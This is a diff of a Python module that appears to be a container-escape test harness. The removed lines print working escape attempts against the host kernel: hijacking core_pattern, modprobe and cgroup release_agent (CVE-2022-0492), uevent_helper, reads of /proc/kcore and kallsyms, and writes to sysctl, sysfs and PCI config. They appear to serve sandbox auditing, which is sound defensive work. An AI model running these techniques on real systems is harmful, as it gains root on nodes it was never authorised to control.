@@ -1,271 +1,24 @@
-"""The kernel: its files in /proc and /sys, modules, BPF, tracing, keys, its own helpers."""
+"""The kernel itself, by its system calls: modules, BPF, tracing, keys, labels, another kernel."""
 
 from __future__ import annotations
 
-import contextlib
 import ctypes
 import os
-import signal
 import struct
 import time
 from pathlib import Path
 
 from escape import kit
-from escape.attempt import CDK, DEEPCE, SECRET, Case, Refused, attempt
+from escape.attempt import CDK, SECRET, Case, Refused, attempt
 
 SUPER = "superpowered: root on the node; the next boot knows nothing of it"
-ROOT_RUNS = "superpowered: it is root on the node already (sheltie)"
-
-
-def _crash() -> None:
-    child = os.fork()
-    if child == 0:
-        os.kill(os.getpid(), signal.SIGSEGV)
-        time.sleep(5)
-        os._exit(0)
-    os.waitpid(child, 0)
-    time.sleep(1)
-
-
-@attempt(
-    "core-pattern",
-    f"{CDK}: mount-procfs; deepce: procfs",
-    "names a program of its own as the receiver of core dumps, and crashes",
-    "the kernel ran the program as root of the node",
-    seen=kit.RAN,
-    allowed={"admin": ROOT_RUNS},
-    short=True,
-)
-def core_pattern(case: Case) -> str:
-    path = "/proc/sys/kernel/core_pattern"
-    program = kit.payload(case.token)
-    before = Path(path).read_text()
-    kit.put(path, f"|{program}")
-    try:
-        _crash()
-    finally:
-        kit.put(path, before)
-    return "crashed"
-
-
-@attempt(
-    "modprobe-path",
-    "kernel.modprobe, a classic of kernel exploits; CDK: mount-procfs",
-    "names a program of its own as the kernel's modprobe, and asks for an unknown format",
-    "the kernel ran the program as root of the node",
-    seen=kit.RAN,
-    allowed={"admin": ROOT_RUNS},
-)
-def modprobe_path(case: Case) -> str:
-    path = "/proc/sys/kernel/modprobe"
-    program = kit.payload(case.token)
-    before = Path(path).read_text()
-    kit.put(path, program)
-    try:
-        odd = Path("/run/odd-format")
-        odd.write_bytes(b"\xff\xfe\xfd\xfc" + os.urandom(16))
-        odd.chmod(0o755)
-        child = os.fork()
-        if child == 0:
-            with contextlib.suppress(OSError):
-                os.execv(odd, ["odd"])
-            os._exit(1)
-        os.waitpid(child, 0)
-        time.sleep(1)
-    finally:
-        kit.put(path, before)
-    return "asked"
-
-
-@attempt(
-    "release-agent",
-    f"{CDK}: mount-cgroup; deepce: privileged release_agent (CVE-2022-0492)",
-    "mounts a control group hierarchy of version 1 whose release agent is its own program",
-    "the kernel ran the program as root of the node",
-    seen=kit.RAN,
-    allowed={"admin": ROOT_RUNS},
-    short=True,
-)
-def release_agent(case: Case) -> str:
-    program = kit.payload(case.token)
-    options = f"none,name={case.token}"
-    with kit.mounted("cgroup", "cgroup", 0, options) as where:
-        kit.put(f"{where}/release_agent", program)
-        child = where / "x"
-        child.mkdir()
-        kit.put(f"{child}/notify_on_release", "1")
-        pid = os.fork()
-        if pid == 0:
-            kit.write(f"{child}/cgroup.procs", str(os.getpid()))
-            os._exit(0)
-        os.waitpid(pid, 0)
-        time.sleep(1)
-        with contextlib.suppress(OSError):
-            child.rmdir()
-    return "released"
-
-
-@attempt(
-    "release-agent-user-namespace",
-    f"CVE-2022-0492; {CDK}: abuse-unpriv-userns",
-    "the same from a user namespace of its own",
-    "the kernel ran the program as root of the node",
-    seen=kit.RAN,
-    control="fixed in the kernel: a release agent needs the first user namespace",
-)
-def release_agent_user_namespace(case: Case) -> str:
-    program = kit.payload(case.token)
-    kit.call("unshare", kit.NEW_USER | kit.NEW_MOUNT | 0x02000000)
-    with kit.mounted("cgroup", "cgroup", 0, f"none,name={case.token}") as where:
-        kit.put(f"{where}/release_agent", program)
-    return "set"
-
-
-@attempt(
-    "sysrq",
-    f"{CDK}: mount-procfs",
-    "asks the kernel by /proc/sysrq-trigger (for its help; a reboot is one letter away)",
-    "the kernel's answer is in the node's log",
-    seen="journalctl -k -n 300 --no-pager -o cat | grep -A1 {token} | grep -q sysrq && "
-    "echo {token}",
-    allowed={"admin": SUPER},
-)
-def sysrq(case: Case) -> str:
-    with contextlib.suppress(OSError):
-        kit.write(kit.character(1, 11), f"<4>{case.token}\n")
-    kit.write("/proc/sysrq-trigger", "h")
-    return "asked"
-
-
-@attempt(
-    "kcore",
-    f"{DEEPCE}: procfs",
-    "reads the kernel's memory by /proc/kcore",
-    "its notes with the kernel's own addresses are read",
-)
-def kcore(case: Case) -> str:
-    with open("/proc/kcore", "rb", buffering=0) as core:
-        data = core.read(65536)
-    if b"VMCOREINFO" not in data:
-        raise Refused(f"{len(data)} bytes, none of the kernel's")
-    return data[data.index(b"KERNELOFFSET") :][:30].decode(errors="replace")
-
-
-@attempt(
-    "kallsyms",
-    "the first step of kernel exploits",
-    "reads the kernel's addresses from /proc/kallsyms",
-    "addresses other than zero",
-)
-def kallsyms(case: Case) -> str:
-    with open("/proc/kallsyms") as file:
-        line = file.readline()
-    if not int(line.split()[0], 16) and not int(line.split()[0], 16):
-        with open("/proc/kallsyms") as file:
-            line = next((x for x in file if int(x.split()[0], 16) > 1 << 40), "")
-    if not line:
-        raise Refused("every address is zero")
-    return line.strip()
-
-
-@attempt(
-    "kernel-log",
-    f"{DEEPCE}: dmesg",
-    "reads the kernel's log by syslog(2)",
-    "the command line of the boot is in it",
-    allowed={"admin": "superpowered: it is for reading logs"},
-)
-def kernel_log(case: Case) -> str:
-    buffer = ctypes.create_string_buffer(1 << 20)
-    done = kit.LIBC.klogctl(3, buffer, len(buffer))
-    if done < 0:
-        raise OSError(ctypes.get_errno(), "syslog")
-    if b"Linux version" not in buffer.raw and b"kernel" not in buffer.raw:
-        raise Refused(f"{done} bytes, not the boot")
-    return f"{done} bytes"
-
-
-@attempt(
-    "sysctl",
-    f"{CDK}: evaluation of sysctls",
-    "changes a kernel setting of the whole node by its own /proc",
-    "vm.admin_reserve_kbytes of the node has another value",
-    seen="cat /proc/sys/vm/admin_reserve_kbytes",
-    undo="echo 8192 > /proc/sys/vm/admin_reserve_kbytes",
-    allowed={"admin": SUPER},
-)
-def sysctl(case: Case) -> str:
-    return kit.put("/proc/sys/vm/admin_reserve_kbytes", str(case.number))
-
-
-@attempt(
-    "uevent-helper",
-    f"{CDK}: sysfs; the classic of privileged containers",
-    "names a program of its own as the kernel's uevent helper",
-    "the kernel ran the program as root of the node",
-    seen=kit.RAN,
-    control="this kernel has no uevent helper (CONFIG_UEVENT_HELPER is not set)",
-)
-def uevent_helper(case: Case) -> str:
-    with kit.mounted("sysfs", "sysfs") as where:
-        kit.put(f"{where}/kernel/uevent_helper", kit.payload(case.token))
-        kit.put(f"{where}/class/mem/null/uevent", "change")
-        time.sleep(1)
-    return "asked"
-
-
-@attempt(
-    "sysfs-write",
-    f"{CDK}: sysfs mounted writable",
-    "mounts sysfs writable and changes how the node reads its disk",
-    "read_ahead_kb of the node's disk has another value",
-    seen="cat /sys/block/vda/queue/read_ahead_kb",
-    undo="echo 128 > /sys/block/vda/queue/read_ahead_kb",
-    allowed={"admin": SUPER},
-)
-def sysfs_write(case: Case) -> str:
-    with kit.mounted("sysfs", "sysfs") as where:
-        return kit.put(f"{where}/block/vda/queue/read_ahead_kb", str(case.number))
-
-
-@attempt(
-    "firmware-path",
-    "firmware_class.path, a known way to code through the kernel's loader",
-    "has the kernel look for firmware in a folder of its own",
-    "the module's parameter is the folder",
-    seen="cat /sys/module/firmware_class/parameters/path",
-    undo="echo -n ' ' > /sys/module/firmware_class/parameters/path",
-    allowed={"admin": SUPER},
-)
-def firmware_path(case: Case) -> str:
-    with kit.mounted("sysfs", "sysfs") as where:
-        return kit.put(f"{where}/module/firmware_class/parameters/path", f"/{case.token}")
-
-
-@attempt(
-    "pci-config",
-    "direct access to devices past the kernel (what lockdown is for)",
-    "writes a byte of a device's PCI configuration, with the value it has",
-    "the write is taken",
-)
-def pci_config(case: Case) -> str:
-    with kit.mounted("sysfs", "sysfs") as where:
-        file = min(where.glob("bus/pci/devices/*/config"))
-        descriptor = os.open(file, os.O_RDWR)
-        try:
-            data = os.pread(descriptor, 1, 0x0C)
-            return f"{os.pwrite(descriptor, data, 0x0C)} byte"
-        finally:
-            os.close(descriptor)
 
 
 @attempt(
     "module-unsigned",
     f"{CDK}: capabilities (SYS_MODULE)",
     "loads a kernel module whose signature was cut off",
-    "the module is loaded",
-    seen="grep -q ^dummy /proc/modules && echo {token}",
-    undo="/usr/sbin/modprobe -r dummy",
+    "the kernel lists the module",
     short=True,
 )
 def module_unsigned(case: Case) -> str:
@@ -278,9 +31,7 @@ def module_unsigned(case: Case) -> str:
     "module-signed",
     f"{CDK}: capabilities (SYS_MODULE)",
     "loads a module that Debian signed, brought along",
-    "the module is loaded",
-    seen="grep -q ^dummy /proc/modules && echo {token}",
-    undo="/usr/sbin/modprobe -r dummy",
+    "the kernel lists the module",
     allowed={"admin": "superpowered: the module is Debian's own, and lockdown checks that"},
 )
 def module_signed(case: Case) -> str:
@@ -290,7 +41,9 @@ def module_signed(case: Case) -> str:
 def _load(data: bytes) -> str:
     buffer = ctypes.create_string_buffer(data, len(data))
     kit.call("init_module", ctypes.c_void_p(ctypes.addressof(buffer)), len(data), b"")
-    return "loaded"
+    rows = Path("/proc/modules").read_text().splitlines()
+    kit.call("delete_module", b"dummy", 0)
+    return kit.told(row for row in rows if row.startswith("dummy "))
 
 
 def _program(instructions: bytes, kind: int) -> int:
